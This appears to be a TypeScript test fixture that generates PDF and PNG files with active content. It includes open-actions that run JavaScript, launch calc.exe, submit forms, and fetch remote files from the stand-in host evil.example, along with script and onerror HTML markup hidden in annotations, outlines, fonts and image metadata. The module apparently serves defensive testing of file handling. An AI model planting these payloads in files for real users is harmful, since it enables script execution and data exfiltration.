import { pdfOf } from "./pdf.ts";
import { png, pngChunk } from "./png.ts";

const script = "app.alert('x'); this.submitForm('http://evil.example/a'); alert(1);";
const markup = "<script>alert(1)</script><img src=http://evil.example/x onerror=alert(2)>";
const javaScript = `<< /S /JavaScript /JS (${script.replaceAll("(", "\\(").replaceAll(")", "\\)")}) >>`;

type Parts = {
  catalog?: string;
  page?: string;
  font?: string;
  text?: string;
  more?: string[];
  comment?: string;
};

/** Further objects are numbered from 6. */
function pdfWith({ catalog = "", page = "", font = "", text = "page", more = [], comment }: Parts): Buffer {
  const content = `BT /F1 18 Tf 72 720 Td (${text.replace(/[()\\]/g, String.raw`\$&`)}) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    font || "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...more,
  ];
  return pdfOf(objects, comment);
}

const note = (inside: string): string =>
  `/Annots [<< /Type /Annot /Rect [50 50 300 300] /Contents (${markup}) ${inside} >>]`;
const field = "/Subtype /Widget /FT /Tx /T (a) /V (v)";
const atOnce = (action: string): Parts => ({ catalog: `/OpenAction ${action}` });

const hostilePdfs: Readonly<Record<string, Parts>> = {
  打开时运行脚本: atOnce(javaScript),
  打开时访问网址: atOnce("<< /S /URI /URI (http://evil.example/) >>"),
  打开时运行程序: atOnce("<< /S /Launch /F (calc.exe) >>"),
  打开时提交表单: atOnce("<< /S /SubmitForm /F (http://evil.example/a) /Flags 4 >>"),
  打开时转到远程文件: atOnce("<< /S /GoToR /F (http://evil.example/a.pdf) /D [0 /Fit] >>"),
  打开时导入数据: atOnce("<< /S /ImportData /F (http://evil.example/a.fdf) >>"),
  关闭时运行脚本: { catalog: `/AA << /WC ${javaScript} /WP ${javaScript} >>` },
  文档级脚本: { catalog: `/Names << /JavaScript << /Names [(a) ${javaScript}] >> >>` },
  翻页时运行脚本: { page: `/AA << /O ${javaScript} >>` },
  脚本链接: { page: note("/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>") },
  外部链接: { page: note("/Subtype /Link /A << /S /URI /URI (http://evil.example/) >>") },
  带脚本的批注: { page: note(`/Subtype /Text /A ${javaScript} /AA << /PV ${javaScript} >>`) },
  带脚本的表单域: { page: note(`${field} /AA << /K ${javaScript} /Fo ${javaScript} /PV ${javaScript} >>`) },
  富媒体: {
    page: note("/Subtype /Screen /A << /S /Rendition /OP 0 /R << /C << /D (http://evil.example/v) >> >> >>"),
  },
  动态表单: {
    catalog: "/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true",
    more: [`<< /Length ${markup.length} >>\nstream\n${markup}\nendstream`],
  },
  字体矩阵: {
    font: `<< /Type /Font /Subtype /Type1 /BaseFont /A /FontMatrix [1 2 3 4 5 (0\\); alert\\('x'\\)//)] /FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 >> >>`,
  },
  外部数据流: {
    page: "/Thumb 6 0 R",
    more: [
      "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F (http://evil.example/i) >> /Length 0 >>\nstream\n\nendstream",
    ],
  },
  正文中的标签: { text: markup },
  大纲中的标签: {
    catalog: "/PageMode /UseOutlines /Outlines 6 0 R",
    more: [
      "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
      `<< /Title (${markup}) /Parent 6 0 R /A ${javaScript} >>`,
    ],
  },
  文件头中的网页: { comment: `<html>${markup}</html>` },
};

export type HostileFile = { name: string; mimeType: string; buffer: Buffer };

/** Valid files of their type with active content. */
export const hostileFiles: readonly HostileFile[] = [
  ...Object.entries(hostilePdfs).map(([name, parts]) => ({
    name: `${name}.pdf`,
    mimeType: "application/pdf",
    buffer: pdfWith(parts),
  })),
  {
    name: "图片中的网页.png",
    mimeType: "image/png",
    buffer: png(40, 20, pngChunk("tEXt", Buffer.from(`Comment\0<html>${markup}`, "latin1"))),
  },
];
